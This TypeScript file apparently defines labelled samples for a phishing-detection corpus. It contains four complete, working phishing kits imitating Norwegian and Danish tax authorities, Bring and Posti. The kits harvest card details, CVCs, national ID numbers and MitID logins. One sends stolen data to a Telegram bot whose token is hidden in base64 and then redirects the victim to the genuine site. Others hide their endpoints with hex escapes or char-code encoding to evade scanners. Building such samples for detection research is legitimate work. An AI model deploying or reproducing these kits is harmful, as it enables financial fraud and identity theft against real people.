import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, b64, codes, logo, cardFields, cardButton } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const tk = b64('7724310958:AAH3pVkq_Yw9Lr2uXnT0bE4cZ6mJs1oDfGi');
  const banks = ['DNB', 'Nordea', 'SpareBank 1', 'Handelsbanken', 'Sbanken', 'Danske Bank', 'Sparebanken Vest', 'Storebrand'];
  return {
    id: 'yx-skatteetaten-skatteoppgjor-tg-kit',
    label: 'phishing',
    kind: 'tax-refund-lure-kit',
    url: 'https://skatteetaten-no.tilbakebetaling.cc/skatteoppgjor/2024/',
    body: doc({
      lang: 'no',
      title: 'Skatteetaten – Skatteoppgjøret 2024',
      css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f4f1ec;color:#1b1b1b}.hd{background:#1b1b1b;color:#fff;padding:16px 30px;font-size:20px}.w{max-width:640px;margin:32px auto;background:#fff;padding:32px}.hl{background:#ddf0e3;padding:16px;font-size:18px}.bk{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:16px 0}.bk button{padding:14px;border:1px solid #aaa;background:#fff;font-size:15px;cursor:pointer}.bk button.on{border:2px solid #1b1b1b}.fld label{display:block;font-size:14px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #777}.half{display:inline-block;width:48%;margin-right:2%}#go{margin-top:16px;background:#1b1b1b;color:#fff;border:0;padding:13px 26px}`,
      body: `<div class="hd">Skatteetaten</div><div class="w"><h1>Skatteoppgjøret ditt er klart</h1>
<div class="hl">Du har <b>6 412 kr</b> til gode. Utbetalingen er stanset fordi kontonummeret ditt ikke kunne bekreftes.</div>
<p>Velg banken din og bekreft kortet som er knyttet til kontoen, så utbetales beløpet innen 2–3 virkedager.</p>
<div class="bk">${banks.map((b) => `<button type="button" data-b="${b}">${b}</button>`).join('')}</div>
<form id="k">${cardFields('no', ['kort', 'utl', 'cvc', 'navn'])}<div class="fld"><label>Fødselsnummer</label><input name="fnr" maxlength="11"></div><button id="go">${cardButton('no')}</button></form></div>
<script>
var bank='';document.querySelectorAll('[data-b]').forEach(function(b){b.onclick=function(){document.querySelectorAll('[data-b]').forEach(function(x){x.className=''});b.className='on';bank=b.dataset.b}});
document.getElementById('k').onsubmit=function(e){e.preventDefault();var t=atob('${tk}'),f=new FormData(this),m='SKATT NO\\nBank: '+bank;f.forEach(function(v,k){m+='\\n'+k+': '+v});
fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'5520931847',text:m})}).finally(function(){location.href='https://www.skatteetaten.no/'})};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'skat-dk.tilbagebetaling-borger.com';
  const esc = (s: string) => Array.from(s).map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
  return {
    id: 'yx-skat-dk-mitid-nemkonto-kit',
    label: 'phishing',
    kind: 'tax-refund-lure-kit',
    url: `https://${h}/borger/aarsopgoerelse/`,
    body: doc({
      lang: 'da',
      title: 'Skattestyrelsen – Du har penge tilbage',
      css: `body{margin:0;font-family:"Academy Sans",Arial,sans-serif;background:#fff}.hd{background:#14143c;color:#fff;padding:18px 30px;font-size:20px;font-weight:bold}.w{max-width:620px;margin:30px auto;padding:0 20px}.box{border:1px solid #d0d0e0;padding:22px;margin:16px 0}.box h3{margin-top:0}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #777;margin:4px 0 12px}.fld{margin:2px 0}.half{display:inline-block;width:48%;margin-right:2%}button{background:#14143c;color:#fff;border:0;padding:12px 26px;font-size:16px}`,
      body: `<div class="hd">Skattestyrelsen</div><div class="w"><h1>Årsopgørelse 2024: Du får 3.184,50 kr tilbage</h1>
<p>Vi kunne ikke udbetale beløbet til din NemKonto. Bekræft din identitet og dine kortoplysninger for at modtage pengene.</p>
<form id="sk"><div class="box"><h3>1. Log på med MitID</h3>${logo.mitid(26)}<label>Bruger-id</label><input id="uid"><label>CPR-nummer</label><input id="cpr" placeholder="DDMMÅÅ-XXXX"></div>
<div class="box"><h3>2. Udbetalingskort</h3>${cardFields('da', ['cnum', 'cexp', 'ccvc', 'cnavn'])}</div><button>Modtag beløb</button></form></div>
<script>
var _a=['${esc('/borger/aarsopgoerelse/rs.php')}','${esc('POST')}','${esc('application/x-www-form-urlencoded')}','${esc('https://skat.dk/')}'];
document.getElementById('sk').addEventListener('submit',function(e){e.preventDefault();var p=new URLSearchParams(new FormData(this));p.append('uid',document.getElementById('uid').value);p.append('cpr',document.getElementById('cpr').value);
var x=new XMLHttpRequest();x.open(_a[1],_a[0]);x.setRequestHeader('Content-Type',_a[2]);x.onload=function(){window['loc'+'ation'][('hr'+'ef')]=_a[3]};x.send(p);});
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const fin = 'bring.sporing-betal.com';
  return {
    id: 'yx-bring-frakt-sms-chain-kit',
    label: 'phishing',
    kind: 'parcel-customs-fee-kit',
    url: 'https://bring-no.pakke-varsel.info/l/NO58x',
    routes: {
      'bring-no.pakke-varsel.info/l/NO58x': redirectRoute(302, `https://${fin}/sporing/?kolli=370722150094126583`),
      [`${fin}/sporing/`]: htmlRoute(
        doc({
          lang: 'no',
          title: 'Bring – Sporing',
          css: `body{margin:0;font-family:Arial;background:#f3f7f0}.h{background:#7bc144;padding:14px 28px}.w{max-width:520px;margin:28px auto;background:#fff;padding:26px}.st{color:#c33;font-weight:bold}.fld label{display:block;font-size:13px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:14px;background:#7bc144;border:0;color:#fff;padding:12px 24px;font-size:16px}`,
          body: `<div class="h">${logo.word('Bring', '#fff', 28)}</div><div class="w"><h2>Sendingsnummer 370722150094126583</h2>
<p class="st">Leveringsforsøk mislyktes – manglende fraktavgift (24,00 kr)</p><p>Betal fraktavgiften for å avtale ny levering. Sendingen returneres etter 5 dager.</p>
<form id="b" method="post" action="/sporing/behandle.php">${cardFields('no', ['kortnr', 'mmaa', 'cvc', 'navn'])}<div class="fld"><label>Adresse for levering</label><input name="adr"></div><div class="fld"><label>Postnummer</label><input name="postnr" maxlength="4"></div><button>Betal 24,00 kr</button></form></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const inner = `<div style="font-family:Arial;background:#f5f5f5;min-height:100vh"><div style="background:#fff;padding:14px 26px;border-bottom:3px solid #f96b00">${logo.word('Posti', '#f96b00', 28)}</div>
<div style="max-width:500px;margin:30px auto;background:#fff;padding:26px"><h2>Lähetyksesi odottaa tullimaksua</h2><p>Lähetystunnus <b>JJFI64129300012345678</b><br>Maksettavaa: <b>2,99 €</b></p>
<p>Lähetys palautetaan lähettäjälle, jos maksua ei suoriteta 2 päivän kuluessa.</p>
<form method="post" action="/seuranta/maksa.php" style="display:grid;gap:8px">${cardFields('fi', ['kortti', 'vanh', 'cvv', 'nimi'])}<label>Puhelinnumero<br><input name="puh" style="width:100%"></label><button style="background:#f96b00;color:#fff;border:0;padding:12px">Maksa 2,99 €</button></form></div></div>`;
  return {
    id: 'yx-posti-tullimaksu-charcode-kit',
    label: 'phishing',
    kind: 'parcel-customs-fee-kit',
    url: 'https://posti-fi.tullimaksu-palvelu.net/seuranta/JJFI64129300012345678',
    body: `<!DOCTYPE html><html lang="fi"><head><meta charset="utf-8"><title>Posti – Seuranta</title><meta name="viewport" content="width=device-width"></head><body>
<div id="p"></div><script>
var q=[${codes(inner)}];var s='';for(var i=0;i<q.length;i++){s+=String.fromCharCode(q[i]);}document.getElementById('p').innerHTML=s;
</script></body></html>`,
  } satisfies Entry;
})(),
];
